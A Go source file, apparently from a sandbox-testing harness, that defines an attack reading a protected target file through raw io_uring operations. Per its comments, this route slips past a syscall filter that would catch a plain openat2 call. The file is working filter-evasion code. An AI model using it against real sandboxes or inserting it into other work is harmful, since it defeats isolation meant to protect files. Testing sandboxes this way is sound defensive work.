package attack

import (
	"runtime"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Ring reads the file Target.Path of the root directory, first by openat2, which a filter sees,
// then by operations of an io_uring, which it does not.
var Ring = Attack{Name: "syscall.io-uring", Run: func(a *Attempt) {
	path := a.Inside(a.Target.Path)
	how := unix.OpenHow{Flags: unix.O_RDONLY | unix.O_CLOEXEC}
	fd, err := unix.Openat2(unix.AT_FDCWD, path, &how)
	if a.Try("openat2 "+a.Target.Path, err) {
		_ = unix.Close(fd) // what matters is whether the ring opens it
	}
	r, err := newRing()
	if !a.Try("io_uring_setup", err) {
		return
	}
	name := append([]byte(path), 0)
	file, err := r.do(ringEntry{
		opcode: opOpenat2, fd: unix.AT_FDCWD, address: uint64(uintptr(unsafe.Pointer(&name[0]))),
		offset: uint64(uintptr(unsafe.Pointer(&how))), length: uint32(unsafe.Sizeof(how)),
	})
	runtime.KeepAlive(name)
	runtime.KeepAlive(&how)
	if !a.Try("IORING_OP_OPENAT2", err) {
		return
	}
	buffer := make([]byte, 256)
	n, err := r.do(ringEntry{opcode: opRead, fd: file, address: uint64(uintptr(unsafe.Pointer(&buffer[0]))), length: uint32(len(buffer))})
	if a.Try("IORING_OP_READ", err) {
		a.Saw(string(buffer[:n]))
	}
}}

// Numbers of linux/io_uring.h.
const (
	opOpenat2      = 28         // IORING_OP_OPENAT2
	opRead         = 22         // IORING_OP_READ
	offSubmissions = 0          // IORING_OFF_SQ_RING
	offCompletions = 0x8000000  // IORING_OFF_CQ_RING
	offEntries     = 0x10000000 // IORING_OFF_SQES
	enterGetEvents = 1          // IORING_ENTER_GETEVENTS
)

// ringParams is struct io_uring_params; the offsets are of struct io_sqring_offsets and
// io_cqring_offsets.
type ringParams struct {
	entries, completions, flags, cpu, idle, features, wq uint32
	_                                                    [3]uint32
	sq                                                   struct {
		head, tail, mask, entries, flags, dropped, array, _ uint32
		_                                                   uint64
	}
	cq struct {
		head, tail, mask, entries, overflow, cqes, flags, _ uint32
		_                                                   uint64
	}
}

// ringEntry is struct io_uring_sqe.
type ringEntry struct {
	opcode, sqeFlags uint8
	priority         uint16
	fd               int32
	offset           uint64
	address          uint64
	length           uint32
	flags            uint32
	data             uint64
	_                [24]byte
}

// ring is an io_uring that does one operation at a time. It ends with the process.
type ring struct {
	fd      uintptr
	params  ringParams
	sq, cq  []byte
	entries []byte
}

func newRing() (*ring, error) {
	r := &ring{}
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&r.params)), 0)
	if errno != 0 {
		return nil, errno
	}
	r.fd = fd
	p := &r.params
	const word, completion, entry = 4, 16, 64 // bytes
	for _, m := range []struct {
		into   *[]byte
		offset int64
		size   uint32
	}{
		{&r.sq, offSubmissions, p.sq.array + p.entries*word},
		{&r.cq, offCompletions, p.cq.cqes + p.completions*completion},
		{&r.entries, offEntries, p.entries * entry},
	} {
		var err error
		if *m.into, err = unix.Mmap(int(fd), m.offset, int(m.size), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
			return nil, err
		}
	}
	return r, nil
}

func at(ring []byte, offset uint32) *uint32 { return (*uint32)(unsafe.Pointer(&ring[offset])) }

// do submits one entry, waits for it and returns its result.
func (r *ring) do(e ringEntry) (int32, error) {
	tail := atomic.LoadUint32(at(r.sq, r.params.sq.tail))
	slot := tail & *at(r.sq, r.params.sq.mask)
	*(*ringEntry)(unsafe.Pointer(&r.entries[slot*uint32(unsafe.Sizeof(e))])) = e
	*at(r.sq, r.params.sq.array+4*slot) = slot
	atomic.StoreUint32(at(r.sq, r.params.sq.tail), tail+1)
	if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, r.fd, 1, 1, enterGetEvents, 0, 0); errno != 0 {
		return 0, errno
	}
	head := atomic.LoadUint32(at(r.cq, r.params.cq.head))
	if head == atomic.LoadUint32(at(r.cq, r.params.cq.tail)) {
		return 0, unix.EAGAIN
	}
	// struct io_uring_cqe: user_data, then the result.
	const size, result = 16, 8
	res := int32(*at(r.cq, r.params.cq.cqes+size*(head&*at(r.cq, r.params.cq.mask))+result))
	atomic.StoreUint32(at(r.cq, r.params.cq.head), head+1)
	if res < 0 {
		return 0, unix.Errno(-res)
	}
	return res, nil
}
